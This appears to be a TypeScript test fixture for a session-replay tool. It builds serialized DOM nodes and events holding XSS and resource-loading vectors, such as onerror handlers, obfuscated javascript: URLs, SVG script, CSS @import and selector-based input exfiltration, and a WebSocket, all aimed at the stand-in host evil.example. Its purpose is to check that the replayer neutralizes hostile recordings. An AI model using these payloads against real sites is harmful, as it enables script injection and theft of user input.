/**
 * Recorded nodes and changes that a hostile page could have sent. Each would fetch from `evil.example`, run
 * `mark()`, or break the replayer, if it were rebuilt as it came.
 */
export const HOST = "evil.example";
const URL = `https://${HOST}/x`;
const JS = "javascript:mark()";

export type Json = Record<string, unknown>;

let lastId = 100;

export function element(
  tagName: string,
  attributes: Json = {},
  childNodes: Json[] = [],
  more: Json = {},
): Json {
  return { type: 2, id: ++lastId, tagName, attributes, childNodes, ...more };
}

export const text = (textContent: string, more: Json = {}): Json => ({
  type: 3,
  id: ++lastId,
  textContent,
  ...more,
});

const svg = (tagName: string, attributes: Json = {}, childNodes: Json[] = []): Json =>
  element(tagName, attributes, childNodes, { isSVG: true });

export const documentOf = (body: Json[]): Json => ({
  type: 0,
  id: 1,
  childNodes: [
    { type: 1, id: 2, name: "html", publicId: "", systemId: "" },
    element("html", {}, [element("head"), element("body", {}, body)]),
  ],
});

/** Vectors that are an element; each is tried in every place that an element can come in. */
export const ELEMENTS: Readonly<Record<string, () => Json>> = {
  "H01 img onerror": () => element("img", { src: URL, onerror: "mark()" }),
  "H02 SCRIPT in capitals": () => element("SCRIPT", { src: URL }, [text("mark()")]),
  "H03 svg script": () => svg("svg", {}, [svg("script", { href: URL }, [text("mark()")])]),
  "H04 svg animate": () =>
    svg("svg", {}, [svg("animate", { onbegin: "mark()", attributeName: "href", values: JS })]),
  "H05 foreignObject": () => svg("svg", {}, [svg("foreignObject", {}, [element("iframe", { src: URL })])]),
  "H06 details ontoggle": () => element("details", { open: true, ontoggle: "mark()" }),
  "H07 autofocus onfocus": () => element("input", { autofocus: true, onfocus: "mark()" }),
  "H08 iframe javascript": () => element("iframe", { src: JS }),
  "H09 iframe srcdoc": () => element("iframe", { srcdoc: `<img src=${URL} onerror=mark()>` }),
  "H10 link javascript": () => element("a", { href: "java\tscript:mark()", ping: URL }),
  "H10 area javascript": () => element("area", { href: "\njavascript:mark()" }),
  "H11 form": () =>
    element("form", { action: URL, onsubmit: "mark()" }, [element("button", { formaction: URL })]),
  "H12 meta refresh": () => element("meta", { "http-equiv": "refresh", content: `0;url=${URL}` }),
  "H13 base": () => element("base", { href: URL }),
  "H14 object": () => element("object", { data: URL, type: "text/html" }),
  "H15 embed": () => element("embed", { src: URL }),
  "H16 __proto__": () => element("__proto__", { __proto__: URL, constructor: URL }),
  "H16 constructor": () => element("constructor", {}, [element("x-é", {}), element("a".repeat(255_000))]),
  "H17 custom name reused": () =>
    element("x-card", { is: "x-card", onclick: "mark()" }, [], { isCustom: true }),
  "H17 reserved custom name": () => element("font-face", {}, [], { isCustom: true }),
  "H18 template": () => element("template", { shadowrootmode: "open" }, [element("script", { src: URL })]),
  "H19 noscript": () => element("noscript", {}, [element("img", { src: URL })]),
  "H20 math xlink": () =>
    element("math", { "xlink:href": JS, href: JS }, [element("maction", { "xlink:href": JS })]),
  "H21 img srcset": () => element("img", { srcset: `${URL} 2x`, sizes: "1px", lowsrc: URL, dynsrc: URL }),
  "H21 picture": () =>
    element("picture", {}, [element("source", { srcset: URL, src: URL }), element("img", {})]),
  "H22 stylesheet": () => element("link", { rel: "stylesheet", href: URL }),
  "H23 preconnect": () => element("link", { rel: "preconnect", href: URL }),
  "H24 dns-prefetch": () => element("link", { rel: "dns-prefetch", href: `//${HOST}` }),
  "H25 preload": () => element("link", { rel: "modulepreload", href: URL, imagesrcset: URL }),
  "H26 icon": () => element("link", { rel: "icon manifest", href: URL }),
  "H27 video": () =>
    element("video", { src: URL, poster: URL, autoplay: true }, [element("track", { src: URL })]),
  "H27 audio": () =>
    element("audio", { src: URL, rr_mediaState: "played" }, [element("source", { src: URL })]),
  "H28 import": () =>
    element("style", { _cssText: `@import "${URL}"; @IMPORT url(${URL}) screen; b{}` }, [text("")]),
  "H28 import, escaped": () => element("style", {}, [text(`@\\69mport '${URL}'; @im\\70 ort url(${URL}`)]),
  "H29 font-face": () => element("style", { _cssText: `@font-face{font-family:a;src:url(${URL})}` }),
  "H30 style attribute": () =>
    element("b", {
      style: `background:URL( "${URL}" );border-image:u\\72l(${URL});cursor:url('${URL}'),auto`,
    }),
  "H30 image-set": () =>
    element("b", { style: `background:image-set("${URL}" 1x);content:-webkit-image-set("${URL}" 1x)` }),
  "H31 svg image": () => svg("svg", {}, [svg("image", { href: URL }), svg("image", { "xlink:href": URL })]),
  "H31 svg use": () => svg("svg", {}, [svg("use", { href: `${URL}#a` }), svg("feImage", { href: URL })]),
  "H31 svg filter": () =>
    svg("rect", { filter: `url(${URL}#f)`, fill: `url("${URL}#g")`, style: `mask:url(${URL})` }),
  "H36 canvas": () => element("canvas", { rr_dataURL: URL }),
  "H36 img data": () => element("img", { rr_dataURL: URL, src: URL }),
  "H38 input image": () => element("input", { type: "image", src: URL }),
  "H38 table background": () => element("table", { background: URL }, [element("td", { background: URL })]),
  "H39 attribute selectors": () =>
    element("style", {
      _cssText: `input[value^="a"]{background:url(${URL}/a)}input[value^=b]{list-style:url(${URL})}`,
    }),
  "H40 iframe remote": () => element("iframe", { src: URL, rr_src: URL, allow: "camera" }),
  "H40 frame": () => element("frameset", {}, [element("frame", { src: URL })]),
  "H40 portal": () => element("portal", { src: URL }),
};

/** Vectors that are an event. */
export const EVENTS: Readonly<Record<string, () => Json>> = {
  "H32 adopted sheets": () => ({
    source: 15,
    id: 1,
    styleIds: [1, 2 ** 53],
    styles: [{ styleId: 1, rules: [{ rule: `a{background:url(${URL})}`, index: 0 }] }],
  }),
  "H33 rule": () => ({
    source: 8,
    id: 4,
    adds: [{ rule: `@import url(${URL})` }, { rule: `a{background:url(${URL})}`, index: [0, 1e6, 2e6] }],
    replace: `@import "${URL}"`,
    replaceSync: `a{background:url(${URL})}`,
  }),
  "H34 declaration": () => ({
    source: 13,
    id: 4,
    index: [0],
    set: { property: "background", value: `url(${URL})`, priority: "important" },
  }),
  "H35 font": () => ({ source: 10, family: "a", buffer: false, fontSource: `url(${URL})` }),
  "H37 canvas constructor": () => ({
    source: 9,
    id: 4,
    type: 0,
    property: "drawImage",
    args: [{ rr_type: "WebSocket", args: [`wss://${HOST}`] }],
  }),
  "H46 size": () => ({ source: 4, width: 1e9, height: 1e9 }),
  "H48 positions": () => ({
    source: 1,
    positions: [
      { x: 1e300, y: Number.NaN, id: 4, timeOffset: -1e18 },
      { x: 1, y: 1, id: 2 ** 53, timeOffset: 0 },
    ],
  }),
  "H48 no positions": () => ({ source: 1, positions: [] }),
  "H49 font buffer": () => ({ source: 10, family: "a", buffer: true, fontSource: "1000000000" }),
  media: () => ({ source: 7, id: 4, type: 0, currentTime: 1 }),
  log: () => ({ source: 11, level: "error", payload: [URL] }),
};
